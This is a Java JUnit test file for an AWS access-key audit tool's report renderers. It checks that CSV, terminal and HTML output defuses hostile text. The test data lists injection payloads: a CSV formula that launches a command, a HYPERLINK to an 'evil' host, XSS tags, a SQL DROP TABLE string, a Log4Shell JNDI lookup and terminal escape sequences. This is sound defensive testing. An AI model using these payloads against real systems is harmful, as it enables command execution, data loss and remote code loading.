package dev.keywarden.report;

import static dev.keywarden.report.ReportFixtures.GENERATED;
import static dev.keywarden.report.ReportFixtures.WEEK_START;
import static org.assertj.core.api.Assertions.assertThat;

import dev.keywarden.checks.AuditResult;
import dev.keywarden.checks.ExemptedFinding;
import dev.keywarden.checks.Finding;
import dev.keywarden.checks.Severity;
import dev.keywarden.findings.FindingStatus;
import dev.keywarden.findings.StoredFinding;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Text that people put in tags, exemption reasons and user names, at its worst, driven through
 * every renderer: no cell may run as a formula, no markup may become live, no control character may
 * reach a terminal, and nothing may be lost.
 */
class HostileTextTest {
  private static final String ACCOUNT = "999999999999";

  static Stream<String> hostile() {
    return Stream.of(
        "x".repeat(256),
        "Zoë 李小龍 Ωmega 🙂 ﷽",
        "a\u0000b\u0007c\u001b[2Jd\r\ne\tf",
        "<script>alert('x')</script>",
        "\"><img src=x onerror=alert(1)>",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil\",\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "'; DROP TABLE findings; --",
        "${jndi:ldap://x.example/a}",
        "\u009b2J\u0085next",
        "safe\u202egnp.exe",
        "a,b;c\"d\"e");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void csvReport_whenTextIsHostile_keepsOneRowOfTextCellsThatLoseNothing(String value) {
    StoredFinding f = stored(value);

    String csv =
        CsvReport.render(List.of(f), Map.of(ACCOUNT, value), Map.of(ACCOUNT + "/" + value, value));

    List<List<String>> rows = parse(csv);
    assertThat(rows).hasSize(2);
    assertThat(rows.get(1)).hasSameSizeAs(CsvReport.COLUMNS);
    rows.get(1)
        .forEach(
            cell ->
                assertThat(cell)
                    .as("cell %s", cell)
                    .doesNotStartWith("=")
                    .doesNotStartWith("+")
                    .doesNotStartWith("-")
                    .doesNotStartWith("@")
                    .doesNotStartWith("\t")
                    .doesNotStartWith("\r"));
    assertThat(rows.get(1).stream().map(HostileTextTest::undefused)).contains(value);
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void findingsCsv_whenTextIsHostile_keepsOneRowOfTextCellsThatLoseNothing(String value) {
    List<List<String>> rows = parse(FindingsOutput.csv(result(value)));

    assertThat(rows).hasSize(2);
    assertThat(rows.get(1)).hasSize(8);
    rows.get(1)
        .forEach(
            cell ->
                assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@"));
    assertThat(rows.get(1).stream().map(HostileTextTest::undefused)).contains(value);
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void findingsTable_whenTextIsHostile_sendsNoControlCharacterToTheTerminal(String value) {
    String table = FindingsOutput.table(result(value), false);

    assertThat(table.replace("\n", ""))
        .doesNotContainPattern("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void htmlReport_whenTextIsHostile_showsItAsTextOnly(String value) {
    StoredFinding f = stored(value);
    ReportInput input =
        new ReportInput(
            ReportFixtures.WEEK,
            GENERATED,
            List.of(ReportFixtures.Run.of(ACCOUNT, WEEK_START).failed(value).build()),
            List.of(),
            Map.of(),
            List.of(f),
            Map.of(ACCOUNT, value),
            Set.of(ACCOUNT),
            Map.of(ReportInput.ownerKey(ACCOUNT, value), value));

    String html = HtmlReport.render(WeeklyReportBuilder.build(input));

    assertThat(html)
        .doesNotContainPattern("(?i)<script|<img")
        .doesNotContainPattern("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]")
        .contains(
            Html.escape(value).length() > 60
                ? Html.escape(value).substring(0, 60)
                : Html.escape(value));
  }

  private static StoredFinding stored(String value) {
    return StoredFinding.builder()
        .accountId(ACCOUNT)
        .checkId("key-expired")
        .resourceId("arn:aws:iam::" + ACCOUNT + ":user/" + value + "#access_key_1")
        .principal(value)
        .severity(Severity.HIGH)
        .title("Access key expired")
        .message(value)
        .status(FindingStatus.OPEN)
        .firstSeen(WEEK_START)
        .deadline(Optional.of(GENERATED.plus(Duration.ofDays(1))))
        .exemptReason(Optional.of(value))
        .version(1)
        .build();
  }

  private static AuditResult result(String value) {
    Finding f =
        new Finding(
            "key-expired",
            Severity.HIGH,
            ACCOUNT,
            value,
            "arn:aws:iam::" + ACCOUNT + ":user/" + value,
            "Access key expired",
            value,
            Optional.empty());
    return new AuditResult(
        ACCOUNT,
        WEEK_START,
        List.of(f),
        List.of(new ExemptedFinding(f, LocalDate.parse("2026-12-31"), value)),
        Map.of());
  }

  /** A cell as the spreadsheet shows it once the defusing apostrophe is seen for what it is. */
  private static String undefused(String cell) {
    return cell.length() > 1 && cell.charAt(0) == '\'' && "=+-@\t\r".indexOf(cell.charAt(1)) >= 0
        ? cell.substring(1)
        : cell;
  }

  /** RFC 4180, strictly: what a spreadsheet reads. */
  private static List<List<String>> parse(String csv) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"' && cell.length() == 0) {
        quoted = true;
      } else if (c == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
      } else {
        cell.append(c);
      }
    }
    assertThat(quoted).as("quotes balance").isFalse();
    assertThat(cell.length() + row.size()).as("the file ends with a line break").isZero();
    return rows;
  }
}
